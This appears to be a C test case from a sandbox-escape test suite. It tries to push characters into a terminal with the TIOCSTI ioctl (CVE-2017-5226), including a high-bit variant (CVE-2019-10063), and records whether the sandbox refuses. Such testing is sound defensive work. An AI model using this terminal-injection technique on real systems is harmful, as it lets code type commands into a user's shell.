// Pushes characters into the terminal, as if the user had typed them (CVE-2017-5226): into the one
// it was given, and, to see that the request itself is refused, into one of its own. Also with a
// bit set that the kernel ignores and a 64-bit comparison sees (CVE-2019-10063).
#include <fcntl.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static void Push(int terminal, const char* whose) {
#if __WORDSIZE == 64
  const long requests[] = {TIOCSTI, (1L << 32) | TIOCSTI};
#else
  const long requests[] = {TIOCSTI};
#endif
  for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); ++i) {
    if (syscall(SYS_ioctl, (long)terminal, requests[i], " ") == 0) {
      Escaped("pushed a character into %s terminal", whose);
    }
    if (IsControl() && errno == EIO) CannotBeTried("dev.tty.legacy_tiocsti is 0 on this host");
    Refused("ioctl TIOCSTI%s on %s terminal", i == 0 ? "" : " with a high bit", whose);
  }
}

void Attack(void) {
  Push(0, "the caller's");
  int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) {
    Refused("make a terminal");
    AllRefused();
  }
  setsid();
  int terminal = open(ptsname(master), O_RDWR | O_CLOEXEC);
  if (terminal < 0) Refused("open its own terminal");
  if (terminal >= 0) Push(terminal, "its own");
  AllRefused();
}
